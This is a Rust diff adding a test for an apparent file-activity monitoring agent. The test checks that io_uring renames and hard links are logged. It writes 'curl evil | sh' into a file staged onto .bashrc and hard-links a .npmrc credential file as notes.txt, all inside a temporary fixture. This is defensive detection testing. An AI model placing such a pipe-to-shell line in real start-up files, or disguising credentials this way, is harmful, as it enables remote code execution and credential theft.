@@ -435,3 +435,54 @@ fn exec_carries_cwd_and_only_the_ci_identity_part_of_its_environment() {
         "a secret from the environment reached the agent log"
     );
 }
+
+/// io_uring's rename and link are names given like the syscalls': a file renamed onto a
+/// start-up file and a credential hard-linked under an innocent name, both submitted to a ring
+/// (inline and forced onto a worker). The kernel copies of the names are read at submission.
+#[test]
+fn io_uring_renames_and_links_are_names() {
+    use io_uring::{opcode, squeue, types, IoUring};
+    let agent = Agent::start();
+    let (_dir, root) = credential_fixture();
+    let staged = root.join("rc.new");
+    std::fs::write(&staged, "curl evil | sh\n").unwrap();
+    let c = |p: &std::path::Path| CString::new(p.to_str().unwrap()).unwrap();
+    let (staged_c, rc_c) = (c(&staged), c(&root.join(".bashrc")));
+    let (npmrc_c, notes_c) = (c(&root.join(".npmrc")), c(&root.join("notes.txt")));
+    let mut ring = IoUring::new(4).expect("io_uring (kernel.io_uring_disabled must be 0)");
+    let fd = types::Fd(libc::AT_FDCWD);
+    let rename = opcode::RenameAt::new(fd, staged_c.as_ptr(), fd, rc_c.as_ptr()).build();
+    let link = opcode::LinkAt::new(fd, npmrc_c.as_ptr(), fd, notes_c.as_ptr())
+        .build()
+        .flags(squeue::Flags::ASYNC);
+    for sqe in [rename, link] {
+        // SAFETY: the names outlive the submission, which completes before we go on.
+        unsafe { ring.submission().push(&sqe).unwrap() };
+        ring.submit_and_wait(1).unwrap();
+        let cqe = ring.completion().next().expect("completion");
+        assert_eq!(cqe.result(), 0, "io_uring rename/link failed");
+    }
+    // Both happened.
+    assert!(std::fs::read_to_string(root.join(".bashrc"))
+        .unwrap()
+        .contains("evil"));
+    assert_eq!(
+        std::fs::read(root.join("notes.txt")).unwrap(),
+        std::fs::read(root.join(".npmrc")).unwrap()
+    );
+    let me = std::process::id() as u64;
+    let renamed = agent.wait_for("io_uring rename onto .bashrc", |e| {
+        kind(e) == "name" && pid(e) == me && e["op"] == "rename" && e["via"] == "io_uring"
+    });
+    assert_eq!(renamed["path"], root.join(".bashrc").to_str().unwrap());
+    let linked = agent.wait_for("io_uring link of .npmrc", |e| {
+        kind(e) == "name" && pid(e) == me && e["op"] == "link" && e["via"] == "io_uring"
+    });
+    assert_eq!(linked["path"], root.join("notes.txt").to_str().unwrap());
+    assert_eq!(linked["from"], root.join(".npmrc").to_str().unwrap());
+    assert!(linked["matched"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|m| m == "from"));
+}
